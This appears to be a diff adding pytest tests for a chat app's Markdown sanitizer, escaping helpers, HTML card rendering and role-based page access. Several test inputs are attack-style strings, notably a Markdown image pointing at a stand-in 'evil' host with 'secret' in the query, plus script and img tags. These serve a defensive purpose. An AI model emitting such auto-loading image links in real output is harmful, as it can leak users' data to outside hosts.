@@ -220,3 +220,75 @@ def test_chat_request_carries_the_sidebar_options() -> None:
         "retrieval_mode": "hybrid",
         "embedder": "e",
     }
+
+
+# ---- nothing from the API or a document loads or links anything -------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("see ![x](https://evil/?q=secret) here", "see [image: x] here"),
+        ('![chart](https://e/a(b).png "t")', "[image: chart]"),
+        ("![a][r] and ![b][]\n\n[r]: https://evil/x.png", "[image: a] and [image: b]"),
+        ('<img src="https://evil/x.png" alt="pic">', "[image: pic]"),
+        ("<IMG SRC=https://evil/x.png>", "[image]"),
+        ('read [the docs](https://a.b/c "title") now', "read the docs (https://a.b/c) now"),
+        ("[a ![i](https://e/i.png)](https://e/l)", "a [image: i] (https://e/l)"),
+        ("[t][r]\n\n[r]: <https://e/x>", "t (https://e/x)"),
+    ],
+)
+def test_safe_markdown_turns_images_and_links_into_text(text: str, shown: str) -> None:
+    out = logic.safe_markdown(text)
+    assert out.startswith(shown) or shown in out, out
+    assert "](" not in out.replace("\\](", "")  # no live inline link or image is left
+    assert "<" not in out.replace("\\<", "")  # no live HTML
+
+
+def test_safe_markdown_escapes_html_and_whatever_it_did_not_rewrite() -> None:
+    out = logic.safe_markdown("<b>hi</b> <script>x</script> <https://x.y>")
+    assert out == "\\<b>hi\\</b> \\<script>x\\</script> \\<https://x.y>"
+    # broken-up or nested forms stay text: every ] that could close a link is escaped
+    assert logic.safe_markdown("![x\n](https://e/)") == "![x\n\\](https://e/)"
+    assert logic.safe_markdown("[r]: https://e/x.png\n![r]") == "[r\\]: https://e/x.png\n[image: r]"
+    # a backslash escaping a backslash does not escape the bracket after it
+    assert logic.safe_markdown("\\\\](u) \\](u)") == "\\\\\\](u) \\](u)"
+    # citations and formatting are kept
+    assert logic.safe_markdown("**Two years** [1][2].") == "**Two years** [1\\][2]."
+
+
+def test_safe_markdown_keeps_fenced_code_and_only_top_level_fences() -> None:
+    code = "```python\nx = a[0](1)  # <b>\n```\n![y](https://e/y)"
+    assert logic.safe_markdown(code) == "```python\nx = a[0](1)  # <b>\n```\n[image: y]"
+    assert logic.safe_markdown("~~~\n![x](u)") == "~~~\n![x](u)"  # unclosed: code to the end
+    # a fence inside a list item ends with the item: not trusted as code
+    nested = "1. a\n   ```\n   b\n![x](https://e/)\n   ```"
+    assert "[image: x]" in logic.safe_markdown(nested)
+    # \r is a line break to Markdown too: "```\r![x](u)" must not hide an image from us
+    assert logic.safe_markdown("```\n```\r![x](https://e/)") == "```\n```\n[image: x]"
+
+
+def test_names_from_the_api_are_shown_literally() -> None:
+    assert logic.md_escape("**x**") == "\\*\\*x\\*\\*"
+    assert logic.md_escape("[a](b)") == "\\[a\\](b)"
+    assert logic.md_escape("<img src=x> ![i](u)") == "\\<img src=x\\> \\!\\[i\\](u)"
+    assert logic.md_escape("# title\n\n- item") == "\\# title - item"  # one line
+    assert logic.md_escape("12. x") == "12\\. x"
+    assert logic.md_escape("all-minilm-l6-v2") == "all-minilm-l6-v2"  # readable as is
+
+
+def test_card_text_stays_inside_its_html_block() -> None:
+    """A blank line would end the HTML block and let the rest render as Markdown."""
+    card = logic.hit_card_html(hit("c", 1, text="a\n\n![x](https://e/x)"), None, None, False)
+    assert "\n" not in card and "a ![x](https://e/x)" in card
+
+
+def test_role_pages() -> None:
+    assert [p.title for p in logic.pages_for("user")] == ["Chat", "Compare retrieval"]
+    assert [p.title for p in logic.pages_for("admin")] == [p.title for p in logic.PAGES]
+    assert len(logic.PAGES) == 5 and logic.pages_for("nobody") == logic.pages_for("user")
+    assert {p.path for p in logic.PAGES if p.admin} == {
+        "views/evaluate.py",
+        "views/models.py",
+        "views/documents.py",
+    }
